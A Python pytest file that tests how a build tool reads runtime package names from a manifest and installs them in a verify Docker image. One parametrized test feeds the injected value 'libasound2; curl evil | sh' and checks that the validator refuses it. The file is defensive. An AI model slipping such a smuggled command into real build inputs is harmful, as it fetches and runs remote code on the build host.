"""The runtime packages: read from the manifest, and installed for verify."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import pytest

from orchestrator.build.engine import BuildxRequest, BuildxResult
from orchestrator.config import PackageManager, TargetConfig
from orchestrator.errors import BadInputError
from orchestrator.knowledge import RuntimeNeeds
from orchestrator.targets import Target
from orchestrator.wheelhouse.syspackages import (
    RuntimeInstallError,
    installs_packages,
    merge_needs,
    read_runtime_needs,
    runtime_needs_for,
    verify_base_dockerfile,
    verify_base_image,
)

TARGET = Target.parse("cp311-manylinux_2_36_x86_64")
TCFG = TargetConfig(
    target=TARGET, base_image="img:amd64", runtime_image="img:amd64", package_manager="apt"
)
ALSA = RuntimeNeeds(libraries=("libasound.so.2",), packages=("libasound2",))


def manifest(tmp_path: Path, **data: object) -> Path:
    (tmp_path / "manifest.json").write_text(json.dumps({"format": 2, **data}))
    return tmp_path


def test_the_manifest_top_level_lists_are_read(tmp_path: Path) -> None:
    path = manifest(
        tmp_path,
        system_libraries=["libz.so.1", "libasound.so.2"],
        runtime_packages=["zlib1g", "libasound2", "zlib1g"],
    )
    assert read_runtime_needs(path) == RuntimeNeeds(
        libraries=("libasound.so.2", "libz.so.1"), packages=("libasound2", "zlib1g")
    )


def test_an_older_manifest_needs_nothing(tmp_path: Path) -> None:
    assert read_runtime_needs(manifest(tmp_path, wheels=[], missing=[])) == RuntimeNeeds()


def test_no_manifest_is_bad_input_naming_the_fix(tmp_path: Path) -> None:
    with pytest.raises(BadInputError) as caught:
        read_runtime_needs(tmp_path)
    assert "manifest.json is missing" in caught.value.message
    assert caught.value.hint == "build it first (`wheelhouse build --target ID`)"


@pytest.mark.parametrize("packages", [["libasound2; curl evil | sh"], "libasound2", [3], ["-y"]])
def test_a_name_that_cannot_stand_in_a_run_line_is_refused(
    tmp_path: Path, packages: object
) -> None:
    with pytest.raises(BadInputError) as caught:
        read_runtime_needs(manifest(tmp_path, runtime_packages=packages))
    assert "`runtime_packages` is not a list of package and library names" in caught.value.message


def test_needs_merge_sorted_once() -> None:
    other = RuntimeNeeds(libraries=("libz.so.1",), packages=("zlib1g", "libasound2"))
    assert merge_needs([ALSA, other, RuntimeNeeds()]) == RuntimeNeeds(
        libraries=("libasound.so.2", "libz.so.1"), packages=("libasound2", "zlib1g")
    )


def test_verify_installs_with_the_runtime_dockerfiles_own_lines() -> None:
    text = verify_base_dockerfile("img@sha256:" + "a" * 64, TCFG, ALSA)
    assert text.splitlines()[0] == "FROM img@sha256:" + "a" * 64
    assert (
        "RUN apt-get update \\\n"
        " && DEBIAN_FRONTEND=noninteractive apt-get install -y --no-install-recommends \\\n"
        "      libasound2 \\\n"
        " && rm -rf /var/lib/apt/lists/*\n"
    ) in text


def test_only_apt_and_apk_targets_install_anything() -> None:
    assert installs_packages(TCFG, ALSA)
    assert not installs_packages(TCFG, RuntimeNeeds())
    none = TargetConfig(target=TARGET, base_image="i", runtime_image="i", package_manager="none")
    assert not installs_packages(none, ALSA)


class FakeBuilder:
    def __init__(self, result: BuildxResult) -> None:
        self.result = result
        self.requests: list[BuildxRequest] = []
        self.dockerfiles: list[str] = []

    def buildx_build(self, request: BuildxRequest, on_line: Callable[[str], None]) -> BuildxResult:
        self.requests.append(request)
        self.dockerfiles.append(request.dockerfile.read_text())
        on_line("#5 [2/2] RUN apt-get update")
        return self.result


def test_the_verify_image_is_loaded_under_a_name_of_its_inputs() -> None:
    builder = FakeBuilder(BuildxResult(returncode=0, seconds=1.0, tail=()))
    said: list[str] = []
    name = verify_base_image(builder, TCFG, "img:amd64", ALSA, said.append)
    (request,) = builder.requests
    assert request.image_name == name
    assert name.startswith(f"wheelhouse-verify/{TARGET.id}:")
    assert request.platform == "linux/amd64"
    assert builder.dockerfiles == [verify_base_dockerfile("img:amd64", TCFG, ALSA)]
    assert said[0] == f"{TARGET.id}: installing libasound2 in img:amd64 (linux/amd64)"
    again = verify_base_image(builder, TCFG, "img:amd64", ALSA, said.append)
    other = verify_base_image(
        builder, TCFG, "img:amd64", RuntimeNeeds(packages=("zlib1g",)), said.append
    )
    assert again == name != other


def test_a_failed_install_says_which_packages_with_the_log_tail() -> None:
    tail = ("E: Unable to locate package libasound3",)
    builder = FakeBuilder(BuildxResult(returncode=1, seconds=1.0, tail=tail))
    needs = RuntimeNeeds(libraries=("libasound.so.2",), packages=("libasound3",))
    with pytest.raises(RuntimeInstallError) as caught:
        verify_base_image(builder, TCFG, "img:amd64", needs, lambda _line: None)
    assert caught.value.message == (
        "could not install the runtime packages libasound3 in img:amd64 (exit code 1)"
    )
    assert "Unable to locate package libasound3" in caught.value.tail


def tc(target: str, manager: PackageManager = "apt") -> TargetConfig:
    return TargetConfig(
        target=Target.parse(target), base_image="i", runtime_image="i", package_manager=manager
    )


def built(output: Path, target: str, packages: list[str]) -> None:
    (output / target).mkdir(parents=True)
    libraries = ["libasound.so.2"] if packages else []
    manifest(output / target, system_libraries=libraries, runtime_packages=packages)


def test_a_from_image_file_installs_what_any_platform_of_its_tag_needs(tmp_path: Path) -> None:
    amd64, arm64 = "cp311-manylinux_2_36_x86_64", "cp311-manylinux_2_36_aarch64"
    built(tmp_path, amd64, [])
    built(tmp_path, arm64, ["libasound2"])
    built(tmp_path, "cp312-manylinux_2_36_aarch64", ["zlib1g"])  # another tag's group
    group = (
        tc(amd64),
        tc(arm64),
        tc("cp312-manylinux_2_36_aarch64"),
        tc("cp311-manylinux_2_36_armv7l"),
    )

    assert runtime_needs_for(tmp_path, tc(amd64)) == RuntimeNeeds()
    assert runtime_needs_for(tmp_path, tc(amd64), group) == ALSA
    assert runtime_needs_for(tmp_path, tc(arm64), group) == ALSA
    with pytest.raises(BadInputError, match=r"manifest\.json is missing"):
        runtime_needs_for(tmp_path, tc("cp311-manylinux_2_36_armv7l"), group)
